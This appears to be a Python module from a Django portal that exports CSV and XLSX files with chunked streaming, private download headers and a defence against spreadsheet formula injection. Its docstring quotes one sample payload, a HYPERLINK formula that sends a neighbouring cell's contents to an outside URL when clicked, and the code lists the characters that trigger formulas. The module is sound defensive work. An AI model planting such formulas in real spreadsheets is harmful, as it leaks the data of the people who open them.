"""Spreadsheets the portal writes (CSV, XLSX), and the one rule they all follow:
a cell never carries a live formula.

A text that people typed and that starts with =, +, -, @, a tab or a carriage
return would be run as a formula by a spreadsheet program (CSV/formula
injection: `=HYPERLINK("https://…/?"&J2,"Voir")` sends the neighbouring cell
away when clicked). Such a text is written with a leading apostrophe, which
spreadsheet programs show as text (OWASP's advice). Numbers stay numbers.
The admin's exports (django-import-export) apply the same rule through
`inert` (partners/resources.py).
"""

import csv
import datetime
import io
import re
import tempfile
from collections.abc import Iterable, Iterator
from decimal import Decimal

import xlsxwriter
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
# With a BOM, Excel opens accents and Arabic correctly.
BOM = "\ufeff"
ROWS_PER_CHUNK = 500


def inert(value):
    """The value as a spreadsheet may hold it: a text that could start a formula
    gets a leading apostrophe; anything else is left as it is."""
    if isinstance(value, str) and value[:1] in _FORMULA_FIRST and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_value(value, zone=None):
    """Spreadsheets have no time zones (Casablanca time, without tzinfo) and no
    Decimal; None is an empty cell. Called for every cell of an export: texts,
    the most common, are looked at first; `zone` spares looking up the current
    time zone for each date."""
    if isinstance(value, str):
        return inert(value)
    if value is None:
        return ""
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        return value.astimezone(zone or timezone.get_current_timezone()).replace(tzinfo=None)
    if isinstance(value, Decimal):
        return float(value)
    return value


def csv_chunks(rows: Iterable[list]) -> Iterator[bytes]:
    """The CSV, a few hundred rows at a time: memory stays the same whatever the
    number of rows, as long as `rows` is read lazily too."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer)
    zone = timezone.get_current_timezone()
    for count, row in enumerate(rows, 1):
        writer.writerow([spreadsheet_value(cell, zone) for cell in row])
        if count % ROWS_PER_CHUNK == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


def to_csv(rows: Iterable[list]) -> bytes:
    return b"".join(csv_chunks(rows))


def write_xlsx(sheets: dict[str, Iterable[list]], target) -> int:
    """One sheet per entry (title -> rows, the first row a bold header), written
    to `target` (a path or a binary file) by XlsxWriter in its constant-memory
    mode: each row goes to disk when the next one starts, so memory does not
    grow with them. Returns the number of rows below the headers.

    XlsxWriter rather than openpyxl's write-only mode: twice as fast on the
    bench's 171,434 recommendations. Texts stay texts: no formula, number or
    link is read into them."""
    workbook = xlsxwriter.Workbook(
        target,
        {
            "constant_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
            "default_date_format": "yyyy-mm-dd hh:mm:ss",
        },
    )
    bold = workbook.add_format({"bold": True})
    day = workbook.add_format({"num_format": "yyyy-mm-dd"})
    zone = timezone.get_current_timezone()
    written = 0
    for title, rows in sheets.items():
        sheet = workbook.add_worksheet(str(title)[:31])
        for index, row in enumerate(rows):
            values = [spreadsheet_value(cell, zone) for cell in row]
            if index == 0:
                sheet.write_row(0, 0, values, bold)
                continue
            sheet.write_row(index, 0, values)
            written += 1
            for column, value in enumerate(values):
                if type(value) is datetime.date:  # a day, without the time of day
                    sheet.write_datetime(index, column, value, day)
    workbook.close()
    return written


def to_xlsx(sheets: dict[str, Iterable[list]]) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(sheets, buffer)
    return buffer.getvalue()


def _private(response, filename: str):
    """A private attachment: never cached by a proxy or kept by the browser."""
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"
    return response


def download(content: bytes, content_type: str, filename: str) -> HttpResponse:
    return _private(HttpResponse(content, content_type=content_type), filename)


def csv_download(rows: Iterable[list], filename: str) -> StreamingHttpResponse:
    """A CSV sent while it is written: the first bytes leave at once, and the
    worker never holds the whole file."""
    return _private(StreamingHttpResponse(csv_chunks(rows), content_type=CSV), filename)


def xlsx_download(sheets: dict[str, Iterable[list]], filename: str) -> FileResponse:
    """An XLSX written to a temporary file (a zip cannot be sent before it is
    complete), then sent from it."""
    spool = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it
    write_xlsx(sheets, spool)
    spool.seek(0)
    return _private(FileResponse(spool, content_type=XLSX), filename)
